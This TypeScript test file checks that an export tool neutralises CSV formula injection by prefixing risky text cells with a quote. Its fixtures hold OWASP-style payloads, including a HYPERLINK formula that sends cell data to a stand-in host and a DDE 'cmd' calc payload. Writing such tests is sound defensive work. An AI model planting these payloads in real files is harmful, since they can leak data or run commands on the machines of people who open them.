/**
 * Issue 16: CSV formula injection (OWASP). Text cells a spreadsheet would run as a formula are
 * written with a `'` in front by the shared delimited builder (default), by layout and text
 * templates (a template setting turns it off) and in the rejected-rows download. Numbers and
 * number-typed columns are never touched.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import {
  buildDelimited,
  looksLikeFormula,
  neutraliseFormula,
  type DelimitedLayout,
} from '../../../../src/core/formats/builders/delimited.ts';
import { renderTemplate } from '../../../../src/core/templates/render.ts';
import { parseTemplateJson, serializeTemplate } from '../../../../src/core/templates/portable.ts';
import { rejectedRowsCsv } from '../../../../src/core/import/export-csv.ts';
import type { LayoutTemplate, TextTemplate } from '../../../../src/core/templates/types.ts';
import { smallCompany } from '../../../helpers/small-company.ts';

/** The issue's cells, and the other OWASP starts (tab, carriage return). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3+cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '-',
  ' =1+1',
];
const HARMLESS = ['Kunde AS', '-1250.00', '-12,50', '+47 22 33 44 55', '15%', '-5 %', '', 'a=b', "'=already"];
export const FORMULA_FUZZ_RUNS = 1000;

const layout = (overrides: Partial<DelimitedLayout> = {}): DelimitedLayout => ({
  delimiter: ',',
  quoting: 'when-needed',
  quoteEmpty: false,
  headerRow: true,
  decimalSeparator: '.',
  lineEnding: 'LF',
  encoding: 'utf-8',
  columns: [
    { header: 'Text', field: 'text' },
    { header: 'Amount', field: 'amount', format: { type: 'amount' } },
    { header: 'Count', field: 'count', format: { type: 'integer' } },
  ],
  ...overrides,
});

function cells(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
}

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('puts a quote before %j', (value) => {
    expect(looksLikeFormula(value)).toBe(true);
    expect(neutraliseFormula(value)).toBe(`'${value}`);
  });
  it.each(HARMLESS)('leaves %j as it is (text, or a plain number)', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });
});

describe('the shared delimited builder', () => {
  const rows = HOSTILE.map((text, i) => ({ text, amount: -125000 - i, count: -i }));

  it('neutralises text cells by default, and leaves number columns (negative amounts) as numbers', () => {
    const built = buildDelimited(layout(), rows);
    const table = cells(built.text);
    expect(table[0]).toEqual(['Text', 'Amount', 'Count']);
    table.slice(1).forEach((row, i) => {
      // Text cells write a tab or line break as a blank (field-format.ts); the quote still comes first.
      expect(row[0]).toBe(`'${HOSTILE[i]!.replace(/^[\t\r]/, ' ')}`);
      expect(row[1]).toBe(`-${(1250 + i / 100).toFixed(2)}`);
      expect(row[2]).toBe(String(-i === 0 ? 0 : -i));
    });
    expect(new Set(built.issues.map((i) => i.code))).toEqual(new Set(['line-break-replaced']));
  });

  it('neutralises a hostile header (a shared template names its columns)', () => {
    const built = buildDelimited(layout({ columns: [{ header: '=1+1', field: 'text' }] }), [{ text: 'x' }]);
    expect(built.text.split('\n')[0]).toBe("'=1+1");
  });

  it('writes text as it is with formulas: raw (a reader that needs the stored text)', () => {
    const built = buildDelimited(layout({ formulas: 'raw' }), rows);
    expect(
      cells(built.text)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(HOSTILE.map((h) => h.replace(/^[\t\r]/, ' ')));
  });

  it('fast-check: no text cell read back from the file starts a formula unless it starts with the quote', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 5 }), (texts) => {
        const built = buildDelimited(
          layout({ headerRow: false, columns: [{ header: 'T', field: 'text' }] }),
          texts.map((text) => ({ text })),
        );
        for (const [cell] of cells(built.text)) if (cell !== undefined) expect(looksLikeFormula(cell)).toBe(false);
      }),
      { numRuns: FORMULA_FUZZ_RUNS },
    );
  });
});

const baseTemplate = {
  name: 'Customers',
  dataType: 'customers' as const,
  fileNamePattern: 'customers',
  fileExtension: 'csv',
  decimalSeparator: '.' as const,
  lineBreak: 'unix' as const,
  quoting: 'needed' as const,
  quoteEmptyFields: false,
  encoding: 'utf-8' as const,
  dataOptions: {},
};
const layoutTemplate = (extra: Partial<LayoutTemplate> = {}): LayoutTemplate => ({
  ...baseTemplate,
  kind: 'layout',
  layout: 'delimited',
  delimiter: ';',
  headerRow: false,
  finalLineBreak: true,
  rowsFrom: '',
  columns: [{ header: 'Name', field: 'name' }],
  ...extra,
});
const textTemplate = (extra: Partial<TextTemplate> = {}): TextTemplate => ({
  ...baseTemplate,
  kind: 'text',
  content: '{% for c in customers %}{{ c.name | csv }};{{ -5 | csv }}\n{% endfor %}',
  postProcess: 'none',
  ...extra,
});
const CONTEXT = { now: '2026-06-01T12:00:00', locale: 'nb-NO', programName: 'Exportdesk', programVersion: 'test' };

function hostileCompany() {
  const data = smallCompany();
  return { ...data, customers: data.customers.map((c) => ({ ...c, name: '=HYPERLINK("http://evil.example")' })) };
}

describe('templates', () => {
  it('a layout template neutralises by default, and writes raw text when its setting is off', () => {
    expect(renderTemplate(layoutTemplate(), hostileCompany(), CONTEXT).text).toBe(
      `"'=HYPERLINK(""http://evil.example"")"\n`,
    );
    expect(renderTemplate(layoutTemplate({ neutraliseFormulas: false }), hostileCompany(), CONTEXT).text).toBe(
      `"=HYPERLINK(""http://evil.example"")"\n`,
    );
  });

  it("a text template's csv filter neutralises text (not numbers) by default, and not when the setting is off", () => {
    expect(renderTemplate(textTemplate(), hostileCompany(), CONTEXT).text).toBe(
      `"'=HYPERLINK(""http://evil.example"")";-5\n`,
    );
    expect(renderTemplate(textTemplate({ neutraliseFormulas: false }), hostileCompany(), CONTEXT).text).toBe(
      `"=HYPERLINK(""http://evil.example"")";-5\n`,
    );
  });

  it('the setting survives the template file, and must be true or false', () => {
    const off = parseTemplateJson(serializeTemplate(layoutTemplate({ neutraliseFormulas: false })));
    expect(off.ok && off.template.neutraliseFormulas).toBe(false);
    const absent = parseTemplateJson(serializeTemplate(layoutTemplate()));
    expect(absent.ok && 'neutraliseFormulas' in absent.template).toBe(false);
    const bad = JSON.parse(serializeTemplate(layoutTemplate())) as { template: Record<string, unknown> };
    bad.template.neutraliseFormulas = 'no';
    const parsed = parseTemplateJson(JSON.stringify(bad));
    expect(!parsed.ok && parsed.errors).toEqual(['template.neutraliseFormulas: must be true or false']);
  });
});

describe('the rejected-rows download', () => {
  it('neutralises the file’s own cells and headers, which the user opens in a spreadsheet to fix', () => {
    const csv = rejectedRowsCsv({
      header: ['number', '@name'],
      rejected: [
        { line: 2, cells: ['-1', '=HYPERLINK("http://evil.example")'], errors: [{ column: 'name', reason: 'bad' }] },
      ],
    } as never);
    expect(cells(csv)).toEqual([
      ['line', 'error', 'number', "'@name"],
      ['2', 'name: bad', '-1', `'=HYPERLINK("http://evil.example")`],
    ]);
  });
});
